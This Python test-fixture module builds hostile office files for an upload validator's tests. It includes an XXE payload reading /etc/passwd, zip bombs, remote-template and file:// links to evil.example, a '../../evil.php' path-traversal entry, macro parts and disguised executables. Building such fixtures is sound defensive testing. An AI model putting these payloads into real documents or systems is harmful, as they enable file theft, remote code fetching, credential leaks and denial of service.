"""Office files that run something, fetch something, hold something else, or unpack without end."""

from __future__ import annotations

import struct
from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

from docx import Document
from openpyxl import Workbook

from tests.media.nasty.file import HIDDEN, Nasty
from tests.media.nasty.pictures import HTML, archive

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
XML = '<?xml version="1.0" encoding="{encoding}"?>'
XXE = '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
MACROS, INSIDE, ODDLY, ELSEWHERE = "holds macros", "another file inside", "built as office", "from elsewhere"
Parts = dict[str, bytes]


def docx() -> bytes:
    file, document = BytesIO(), Document()
    document.add_paragraph("A plan.")
    document.save(file)
    return file.getvalue()


def xlsx() -> bytes:
    file, book = BytesIO(), Workbook()
    book.active["A1"] = "A table."
    book.save(file)
    return file.getvalue()


def open_document(kind: str, extra: Parts | None = None) -> bytes:
    """`kind` is "text" or "spreadsheet"."""
    file = BytesIO()
    with ZipFile(file, "w") as made:
        made.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}", ZIP_STORED)
        made.writestr("Configurations2/", b"")
        for name, content in {
            "content.xml": b"<x/>",
            "META-INF/manifest.xml": b"<x/>",
            **(extra or {}),
        }.items():
            made.writestr(name, content, ZIP_DEFLATED)
    return file.getvalue()


def with_parts(file: bytes, parts: Parts) -> bytes:
    """With some parts more, or others in their place."""
    made = BytesIO()
    with ZipFile(BytesIO(file)) as old, ZipFile(made, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def part(file: bytes, name: str) -> bytes:
    with ZipFile(BytesIO(file)) as opened:
        return opened.read(name)


def renamed_docm() -> bytes:
    types = part(docx(), TYPES).replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    types += b"<!-- wordprocessingml.document.main+xml -->"
    return with_parts(docx(), {TYPES: types})


def with_relation(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
    relations = part(docx(), RELATIONS).replace(b"</Relationships>", f"{relation}</Relationships>".encode())
    return with_parts(docx(), {RELATIONS: relations})


def bomb(parts: int = 1) -> bytes:
    return with_parts(docx(), {f"word/media/{number}.bin": bytes(20 << 20) for number in range(parts)})


def lying() -> bytes:
    """Its directory says that a part is small; it is not."""
    file = bytearray(bomb())
    at = file.rfind(b"PK\x01\x02")
    file[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(file)


def with_password() -> bytes:
    file = bytearray(docx())
    for mark, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        file[file.find(mark) + flags] |= 1
    return bytes(file)


def docx_with(name: str, content: bytes) -> bytes:
    return with_parts(docx(), {name: content})


def chart(workbook: bytes) -> bytes:
    """A document with a chart, and the workbook it is made from."""
    return docx_with("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)


OFFICE_FILES = {
    "archive named docx": Nasty("plan.docx", archive, says="no .docx file"),
    "html named docx": Nasty("plan.docx", lambda: HTML, says="no .docx file"),
    "workbook named docx": Nasty("plan.docx", xlsx, says="no .docx file"),
    "document named xlsx": Nasty("plan.xlsx", docx, says="no .xlsx file"),
    "text named ods": Nasty("plan.ods", partial(open_document, "text"), says="no .ods file"),
    "old document named docx": Nasty("plan.docx", lambda: OLE, says="old format"),
    "picture before a docx": Nasty("plan.docx", lambda: b"GIF89a" + docx(), says="no .docx file"),
    "docx and html behind": Nasty("plan.docx", lambda: docx() + HTML, says="no .docx file"),
    "docx that breaks off": Nasty("plan.docx", lambda: docx()[:500] + docx()[-22:], says="is damaged"),
    "docx with a password": Nasty("plan.docx", with_password, says="has a password"),
    "docm named docx": Nasty("plan.docx", renamed_docm, says=MACROS),
    "docx with macros": Nasty("plan.docx", partial(docx_with, "word/vbaProject.bin", b"x"), says=MACROS),
    "xlsx with macros": Nasty(
        "plan.xlsx", lambda: with_parts(xlsx(), {"xl/vbaProject.bin": b"x"}), says=MACROS
    ),
    "odt with macros": Nasty(
        "plan.odt", lambda: open_document("text", {"Basic/Standard/Module1.xml": b"<x/>"}), says=MACROS
    ),
    "odt with a listener": Nasty(
        "plan.odt",
        lambda: open_document("text", {"content.xml": b'<x><script:event-listener x="y"/></x>'}),
        says=MACROS,
    ),
    "zip bomb": Nasty("plan.docx", bomb, says="unpacks to far more"),
    "zip bomb in many parts": Nasty("plan.docx", partial(bomb, 9), says="unpacks to far more"),
    "zip bomb that lies": Nasty("plan.docx", lying, says="is damaged"),
    "archive in a docx": Nasty("plan.docx", lambda: docx_with("word/media/a.bin", archive()), says=INSIDE),
    "docx with an object": Nasty(
        "plan.docx", partial(docx_with, "word/embeddings/oleObject1.bin", OLE), says=INSIDE
    ),
    "docx with a program": Nasty(
        "plan.docx", partial(docx_with, "word/media/image1.png", b"MZ" + bytes(99)), says=INSIDE
    ),
    "chart with macros": Nasty(
        "plan.docx", lambda: chart(with_parts(xlsx(), {"xl/vbaProject.bin": b"x"})), says=MACROS
    ),
    "chart in a chart": Nasty(
        "plan.docx", lambda: chart(with_parts(xlsx(), {"xl/embeddings/a.xlsx": xlsx()})), says=INSIDE
    ),
    "docx with a template elsewhere": Nasty(
        "plan.docx", partial(with_relation, "attachedTemplate", "https://evil.example/x.dotm"), says=ELSEWHERE
    ),
    "docx with a picture elsewhere": Nasty(
        "plan.docx", partial(with_relation, "image", "file://evil.example/x.png"), says=ELSEWHERE
    ),
    "docx that reads files": Nasty(
        "plan.docx",
        lambda: docx_with("word/document.xml", f"{XML.format(encoding='UTF-8')}{XXE}".encode()),
        says=ODDLY,
    ),
    "docx that reads files in two bytes a letter": Nasty(
        "plan.docx",
        lambda: docx_with("word/document.xml", f"{XML.format(encoding='UTF-16')}{XXE}".encode("utf-16")),
        says=ODDLY,
    ),
    "docx that unpacks elsewhere": Nasty(
        "plan.docx", partial(docx_with, "../../evil.php", HIDDEN), says=ODDLY
    ),
}
